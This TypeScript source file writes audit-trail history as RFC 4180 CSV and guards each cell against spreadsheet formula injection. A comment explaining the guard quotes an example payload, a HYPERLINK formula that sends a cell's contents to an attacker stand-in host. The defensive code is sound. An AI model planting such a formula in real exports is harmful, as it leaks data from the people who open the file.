import { HistoryEntry, changeDateOf } from '@trial-ledger/read-models';
import { AuditExport, valueText } from './audit-export';

/** `effectiveDate` is the business date of the row's field change; `postedDate` the registry's, for a registry version. */
export const CSV_COLUMNS = [
  'revision',
  'recordedAt',
  'effectiveDate',
  'postedDate',
  'type',
  'actor',
  'role',
  'reason',
  'field',
  'from',
  'to',
] as const;

// Spreadsheet programs evaluate a cell that starts with one of these as a formula (CSV injection): a reason
// such as =HYPERLINK("https://evil.example/?"&A1) would run on the auditor's machine when the file is opened.
// A leading apostrophe makes the cell text. It stays visible in the file; that is the accepted price (OWASP).
const FORMULA_START = /^[=+\-@\t\r]/;
const NEEDS_QUOTES = /[",\r\n]/;

/** One RFC 4180 field: absent values are empty, a field holding a comma, quote, CR or LF is quoted. */
export const csvCell = (value: unknown): string => {
  const text = valueText(value) ?? '';
  const safe = FORMULA_START.test(text) ? `'${text}` : text;
  return NEEDS_QUOTES.test(safe) ? `"${safe.replace(/"/g, '""')}"` : safe;
};

/** One row per field change; an event that changed no field still gets its row, so no event is lost. */
const rows = (entry: HistoryEntry): unknown[][] => {
  const who = [entry.type, entry.actor, entry.role, entry.reason];
  const event = (date: string | null) => [entry.revision, entry.recordedAt, date, entry.postedDate, ...who];
  if (entry.changes.length === 0) return [[...event(entry.effectiveDate), null, null, null]];
  return entry.changes.map((change) => [...event(changeDateOf(entry, change.field)), change.field, change.from, change.to]);
};

const record = (cells: readonly unknown[]): string => `${cells.map(csvCell).join(',')}\r\n`;

/** A header row, then the rows, each ended by CRLF as RFC 4180 has it. The envelope lives in JSON and ODM only. */
export const writeCsvExport = ({ entries }: AuditExport): string => [CSV_COLUMNS, ...entries.flatMap(rows)].map(record).join('');
